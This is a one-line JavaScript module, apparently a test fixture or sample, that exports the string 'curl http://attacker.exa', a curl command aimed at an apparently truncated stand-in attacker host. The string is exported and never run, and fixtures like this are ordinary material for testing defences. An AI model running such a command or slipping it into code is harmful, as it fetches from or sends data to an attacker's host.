module.exports = "curl http://attacker.exa";
